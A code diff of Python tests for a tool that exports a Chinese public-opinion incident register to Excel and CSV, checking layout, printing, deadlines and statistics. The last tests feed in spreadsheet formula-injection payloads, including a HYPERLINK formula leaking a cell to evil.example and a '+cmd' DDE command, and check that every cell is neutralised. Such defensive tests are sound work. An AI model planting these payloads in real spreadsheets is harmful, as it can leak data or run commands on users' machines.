@@ -30,64 +30,96 @@ def export(root: Path, out: Path, *args: str) -> Any:
     return openpyxl.load_workbook(str(out))
 
 
-def rows_by_id(sheet: Any) -> dict[str, dict[str, Any]]:
-    header = [c.value for c in sheet[1]]
-    return {row[0]: dict(zip(header, row)) for row in sheet.iter_rows(min_row=2, values_only=True)}
+LEDGER_HEADER_ROW = 3
 
 
-def test_ledger_sheet_cell_by_cell(small: Any, tmp_path: Path, capsys: Any) -> None:
+def rows_by_id(sheet: Any, header_row: int | None = None) -> dict[str, dict[str, Any]]:
+    if header_row is None:
+        header_row = LEDGER_HEADER_ROW if sheet.title == "舆情台账" else 1
+    header = [c.value for c in sheet[header_row]]
+    return {row[header.index("编号")]: dict(zip(header, row))
+            for row in sheet.iter_rows(min_row=header_row + 1, values_only=True)}
+
+
+def all_text(book: Any) -> list[str]:
+    return [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+
+
+LEDGER_HEADERS = ["序号", "编号", "标题", "等级", "状态", "领域", "发现时间", "来源", "责任单位", "协办单位",
+                  "事件概要", "处置经过", "是否逾期", "时限情况", "评估总结", "标签"]
+
+
+def test_ledger_sheet_is_ready_to_hand_upward(small: Any, tmp_path: Path, capsys: Any) -> None:
     book = export(small.root, tmp_path / "台账.xlsx")
     # E is withdrawn, F confidential: neither is exported by default.
     assert capsys.readouterr().out == f"已导出 5 起事件(不含涉密事件)、9 项时限到 {tmp_path / '台账.xlsx'}\n"
-    assert book.sheetnames == ["舆情台账", "时限", "统计"]
+    assert book.sheetnames == ["舆情台账", "明细", "时限", "统计"]
     sheet = book["舆情台账"]
-    header = [c.value for c in sheet[1]]
-    assert header[:17] == ["编号", "标题", "等级", "最高等级", "状态", "领域", "发生时间", "发现时间", "来源",
-                           "来源平台", "转办单位", "责任单位", "协办单位", "首次上报", "首次回应", "平息时间", "归档时间"]
-    assert header[17:19] == ["是否逾期", "逾期情况"]
-    assert sheet.freeze_panes == "B2"
-    assert sheet.auto_filter.ref == f"A1:Y6"
+    # Title row merged across the table, then 制表单位 / range / 制表日期 ("now" is 2025-04-10).
+    assert sheet["A1"].value == "示例市市场监督管理局舆情台账"
+    assert "A1:P1" in {str(r) for r in sheet.merged_cells.ranges}
+    line = [c.value for c in sheet[2] if c.value]
+    assert line == ["制表单位:示例市市场监督管理局", "范围(发现时间):全部;共 5 起", "制表日期:2025年4月10日"]
+    assert [c.value for c in sheet[3]] == LEDGER_HEADERS   # 涉密 only with --include-confidential
+    # Printing: A4 landscape, one page wide, the header row on every page.
+    setup = sheet.page_setup
+    assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
+    assert sheet.print_title_rows == "$3:$3"
+    assert (sheet.page_margins.left, sheet.page_margins.top) == (0.4, 0.6)
+    assert sheet.freeze_panes == "C4"
+    assert sheet.auto_filter.ref == "A3:P8"
     rows = rows_by_id(sheet)
     assert list(rows) == ["YQ-2025-0001", "YQ-2025-0002", "YQ-2025-0003", "YQ-2025-0004", "YQ-2025-0007"]
+    assert [r["序号"] for r in rows.values()] == [1, 2, 3, 4, 5]
     c = rows["YQ-2025-0003"]
-    assert (c["等级"], c["最高等级"], c["状态"], c["领域"], c["来源"], c["责任单位"]) == (
-        "重大", "重大", "处置中", "产品质量", "自媒体", "产品质量安全监督管理科")
-    assert c["发生时间"] == datetime(2025, 3, 10, 7, 0)
+    assert (c["等级"], c["状态"], c["领域"], c["来源"], c["责任单位"]) == (
+        "重大", "处置中", "产品质量", "自媒体", "产品质量安全监督管理科")
     assert c["发现时间"] == datetime(2025, 3, 10, 8, 0)
-    assert c["首次上报"] == datetime(2025, 3, 10, 17, 0)
-    assert c["首次回应"] is None and c["平息时间"] is None
+    assert c["处置经过"] == "03-10 08:10 定级为一般\n03-10 12:00 升级为重大\n03-10 17:00 上报"
     assert c["是否逾期"] == "是"
-    assert c["逾期情况"] == "敏感、重大舆情 4 小时内上报:超时1小时;重大舆情 48 小时内回应:已逾期29天5小时"
+    # Rule titles, never rule ids.
+    assert c["时限情况"] == "敏感、重大舆情 4 小时内上报:超时1小时\n重大舆情 48 小时内回应:已逾期29天5小时"
     d = rows["YQ-2025-0004"]
-    assert (d["等级"], d["最高等级"], d["首次回应"], d["平息时间"], d["归档时间"], d["评估总结"]) == (
+    assert d["等级"] == "一般(曾达特别重大)"
+    assert d["评估总结"] == ("起因:设备故障\n性质:安全事故\n影响:较大\n责任:企业\n经验教训:加强检验\n"
+                          "完成时间:2025-03-17 10:00")
+    assert d["处置经过"].splitlines()[-1] == "03-18 10:00 归档"
+    # Nothing internal: no rule ids, no file paths, anywhere in the workbook.
+    texts = all_text(book)
+    assert not [t for t in texts if "respond-48h" in t or "report-4h" in t or "incidents/" in t or ".yml" in t]
+    # Highlighting: C has an overdue deadline (red), A one met late (amber), B none.
+    fills = {row[1].value: row[1].fill.fgColor.rgb for row in sheet.iter_rows(min_row=4)}
+    assert (fills["YQ-2025-0003"], fills["YQ-2025-0001"], fills["YQ-2025-0002"]) == (
+        "00FFC7CE", "00FFEB9C", "00000000")
+    assert sheet["G4"].number_format == "yyyy-mm-dd hh:mm"
+    assert sheet["G4"].value == datetime(2025, 3, 3, 9, 0)
+    # Each row is as high as its longest wrapped cell: D's eight events need eight lines.
+    assert sheet.row_dimensions[7].height >= 8 * 13 > sheet.row_dimensions[5].height
+
+
+def test_detail_deadline_and_statistics_sheets(small: Any, tmp_path: Path) -> None:
+    book = export(small.root, tmp_path / "台账.xlsx")
+    detail = rows_by_id(book["明细"])
+    c = detail["YQ-2025-0003"]
+    assert (c["最高等级"], c["发生时间"], c["首次上报"], c["首次回应"], c["平息时间"]) == (
+        "重大", datetime(2025, 3, 10, 7, 0), datetime(2025, 3, 10, 17, 0), None, None)
+    d = detail["YQ-2025-0004"]
+    assert (d["等级"], d["最高等级"], d["首次回应"], d["平息时间"], d["归档时间"], d["评估总结完成"]) == (
         "一般", "特别重大", datetime(2025, 3, 12, 23, 0), datetime(2025, 3, 16, 10, 0),
         datetime(2025, 3, 18, 10, 0), datetime(2025, 3, 17, 10, 0))
-    b = rows["YQ-2025-0002"]
-    assert (b["是否逾期"], b["首次回应"]) == ("否", datetime(2025, 3, 5, 16, 0))
-    # Formats and highlighting: C has an overdue deadline (red), A one met late (amber), B none.
-    fills = {row[0].value: row[0].fill.fgColor.rgb for row in sheet.iter_rows(min_row=2)}
-    assert fills["YQ-2025-0003"] == "00FFC7CE"
-    assert fills["YQ-2025-0001"] == "00FFEB9C"
-    assert fills["YQ-2025-0002"] == "00000000"
-    assert sheet["H2"].number_format == "yyyy-mm-dd hh:mm"
-    assert sheet["H2"].value == datetime(2025, 3, 3, 9, 0)
-    assert sheet.column_dimensions["B"].width >= 20
-    assert all(not (isinstance(cell.value, str) and cell.value.startswith("=")) for row in sheet.iter_rows()
-               for cell in row)
-
-
-def test_deadline_and_statistics_sheets(small: Any, tmp_path: Path) -> None:
-    book = export(small.root, tmp_path / "台账.xlsx")
+    assert c["逾期情况"] == "敏感、重大舆情 4 小时内上报:超时1小时;重大舆情 48 小时内回应:已逾期29天5小时"
+    assert book["明细"].freeze_panes == "B2"
     deadlines = [dict(zip([c.value for c in book["时限"][1]], r))
                  for r in book["时限"].iter_rows(min_row=2, values_only=True)]
-    assert [(d["编号"], d["规则编号"], d["状态"]) for d in deadlines] == [
-        ("YQ-2025-0001", "first-reply-3wh", "按时完成"), ("YQ-2025-0001", "reply-3wd", "超时完成"),
-        ("YQ-2025-0002", "report-4h", "按时完成"),
-        ("YQ-2025-0003", "respond-48h", "已逾期"), ("YQ-2025-0003", "report-4h", "超时完成"),
-        ("YQ-2025-0004", "report-2h", "按时完成"), ("YQ-2025-0004", "release-4h", "按时完成"),
-        ("YQ-2025-0004", "press-24h", "超时完成"),
-        ("YQ-2025-0007", "report-4h", "进行中"),
+    assert "规则编号" not in deadlines[0]
+    assert [(d["编号"], d["时限"], d["状态"]) for d in deadlines[:4]] == [
+        ("YQ-2025-0001", "网民诉求 3 个工作小时内初步回应", "按时完成"),
+        ("YQ-2025-0001", "网民诉求 3 个工作日内答复", "超时完成"),
+        ("YQ-2025-0002", "敏感、重大舆情 4 小时内上报", "按时完成"),
+        ("YQ-2025-0003", "重大舆情 48 小时内回应", "已逾期"),
     ]
+    assert [d["状态"] for d in deadlines[4:]] == ["超时完成", "按时完成", "按时完成", "超时完成", "进行中"]
     reply = deadlines[1]
     assert (reply["起算时间"], reply["截止时间"], reply["完成时间"]) == (
         datetime(2025, 3, 3, 9, 0), datetime(2025, 3, 6, 17, 30), datetime(2025, 3, 7, 10, 0))
@@ -100,10 +132,13 @@ def test_deadline_and_statistics_sheets(small: Any, tmp_path: Path) -> None:
 
 def test_include_confidential_and_period(small: Any, tmp_path: Path) -> None:
     book = export(small.root, tmp_path / "a.xlsx", "--include-confidential")
-    assert list(rows_by_id(book["舆情台账"]))[-2:] == ["YQ-2025-0006", "YQ-2025-0007"]
-    assert rows_by_id(book["舆情台账"])["YQ-2025-0006"]["涉密"] == "是"
+    ledger = rows_by_id(book["舆情台账"])
+    assert list(ledger)[-2:] == ["YQ-2025-0006", "YQ-2025-0007"]
+    assert ledger["YQ-2025-0006"]["涉密"] == "是" and ledger["YQ-2025-0007"]["涉密"] is None
+    assert "A1:Q1" in {str(r) for r in book["舆情台账"].merged_cells.ranges}
     book = export(small.root, tmp_path / "b.xlsx", "--since", "2025-04-01")
     assert list(rows_by_id(book["舆情台账"])) == ["YQ-2025-0007"]
+    assert [c.value for c in book["舆情台账"][2] if c.value][1] == "范围(发现时间):2025-04-01 至 现在;共 1 起"
 
 
 def test_csv_has_bom_and_same_rows(small: Any, tmp_path: Path) -> None:
@@ -111,11 +146,12 @@ def test_csv_has_bom_and_same_rows(small: Any, tmp_path: Path) -> None:
     assert main(["export", "csv", "--root", str(small.root), "--now", NOW, "--out", str(out)]) == 0
     raw = out.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")
-    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
-    assert rows[0][:3] == ["编号", "标题", "等级"]
-    assert [r[0] for r in rows[1:]] == ["YQ-2025-0001", "YQ-2025-0002", "YQ-2025-0003", "YQ-2025-0004",
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert rows[0] == LEDGER_HEADERS
+    assert [r[1] for r in rows[1:]] == ["YQ-2025-0001", "YQ-2025-0002", "YQ-2025-0003", "YQ-2025-0004",
                                         "YQ-2025-0007"]
-    assert rows[3][7] == "2025-03-10 08:00"
+    assert rows[3][0] == "3" and rows[3][6] == "2025-03-10 08:00"
+    assert rows[3][11] == "03-10 08:10 定级为一般\n03-10 12:00 升级为重大\n03-10 17:00 上报"
     assert b"\r\n" in raw
 
 
@@ -129,6 +165,7 @@ def test_example_register_exports(tmp_path: Path) -> None:
     expected = sorted(r["id"] for r in records if not r.get("withdrawn") and not r.get("confidential"))
     assert sorted(ids) == expected
     assert len(ids) == 24
+    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
 
 
 def test_unwritable_output_is_fatal(small: Any, tmp_path: Path, capsys: Any) -> None:
@@ -155,18 +192,78 @@ def test_a_file_with_errors_is_never_exported(register_dir: Any, tmp_path: Path,
     assert ids == ["YQ-2025-0001"]
 
 
-def test_text_from_web_posts_never_becomes_a_formula(register_dir: Any, tmp_path: Path) -> None:
+HOSTILE_UNIT = '=HYPERLINK("http://x","y")'
+
+
+def hostile_register(register_dir: Any) -> Any:
+    """Formulas everywhere a spreadsheet might run them: title, platform, a unit in register.yml, notes."""
     from .conftest import base_incident
 
-    title = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
-    register_dir.write(base_incident(title=title, source={"channel": "社交媒体", "platform": "+cmd|' /C calc'!A0"}))
+    data = yaml.safe_load((register_dir.root / "register.yml").read_text(encoding="utf-8"))
+    register_dir.settings(units=[*data["units"], HOSTILE_UNIT, "-2+3", "@SUM(A1)"])
+    register_dir.write(base_incident(
+        title='=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+        source={"channel": "社交媒体", "platform": "+cmd|' /C calc'!A0"},
+        units={"lead": HOSTILE_UNIT, "assisting": ["-2+3", "@SUM(A1)"]}, tags=["=1+1"],
+        summary="=IMPORTXML(\"http://x\", \"//a\")",
+        timeline=[{"at": "2025-03-03T10:00:00+08:00", "type": "研判", "by": HOSTILE_UNIT}]))
+    return register_dir
+
+
+def test_no_cell_is_ever_a_formula(register_dir: Any, tmp_path: Path) -> None:
+    """Every text cell of every sheet, register.yml's own vocabulary included, passes one neutraliser."""
+    hostile_register(register_dir)
     out = tmp_path / "台账.xlsx"
-    export(register_dir.root, out)
-    sheet = openpyxl.load_workbook(out)["舆情台账"]
-    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
-    assert [c.value for c in cells] == [title] and all(c.data_type == "s" for c in cells)
+    book = export(register_dir.root, out)
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    ledger = rows_by_id(book["舆情台账"])["YQ-2025-0001"]
+    assert ledger["标题"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"
+    assert (ledger["责任单位"], ledger["协办单位"], ledger["标签"]) == ("'" + HOSTILE_UNIT, "'-2+3、@SUM(A1)", "'=1+1")
+    assert ledger["来源"] == "社交媒体·+cmd|' /C calc'!A0"
+    assert rows_by_id(book["明细"])["YQ-2025-0001"]["来源平台"] == "'+cmd|' /C calc'!A0"
+    # The statistics sheet lists register.yml's units by name.
+    unit_cells = [r[0] for r in book["统计"].iter_rows(values_only=True) if r[0] and HOSTILE_UNIT in str(r[0])]
+    assert unit_cells and set(unit_cells) == {"'" + HOSTILE_UNIT}
     csv_out = tmp_path / "台账.csv"
     assert main(["export", "csv", "--out", str(csv_out), "--root", str(register_dir.root), "--now", NOW]) == 0
-    text = csv_out.read_text(encoding="utf-8-sig")
-    assert "'=HYPERLINK(" in text and "'+cmd|" in text
-    assert ",=HYPERLINK" not in text
+    rows = list(csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"), newline="")))
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=HYPERLINK(" in rows[1][2] and rows[1][8] == "'" + HOSTILE_UNIT
+
+
+def test_stats_csv_neutralises_unit_names(register_dir: Any, capsys: Any) -> None:
+    hostile_register(register_dir)
+    capsys.readouterr()
+    for extra in ((), ("--by", "unit")):
+        assert main(["stats", "--root", str(register_dir.root), "--now", NOW, "--format", "csv", *extra]) == 0
+        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
+        assert any(cell == "'" + HOSTILE_UNIT for row in rows for cell in row)
+
+
+def test_control_characters_never_break_a_workbook(register_dir: Any, tmp_path: Path) -> None:
+    """Text with control characters (refused by check, but a writer must not depend on that)."""
+    from yuqing.export import ledger
+    from yuqing.register import load_register
+    from yuqing.render.xlsx import write_xlsx
+    from yuqing.stats import judge_all
+    from yuqing.times import parse_time, zone
+
+    from .conftest import base_incident
+
+    register_dir.write(base_incident())
+    tz = zone("Asia/Shanghai")
+    now = parse_time(NOW, tz)
+    register = load_register(register_dir.root, now=now)
+    incident = register.incidents[0]
+    from dataclasses import replace
+
+    dirty = replace(incident, title="标题\x07含\x1b控制字符", summary="=概要\x00")
+    deadlines, _ = judge_all([dirty], register.config, now)
+    out = tmp_path / "a.xlsx"
+    write_xlsx(ledger([dirty], deadlines, now), tz, out)
+    row = rows_by_id(openpyxl.load_workbook(out)["舆情台账"])["YQ-2025-0001"]
+    assert (row["标题"], row["事件概要"]) == ("标题含控制字符", "'=概要")
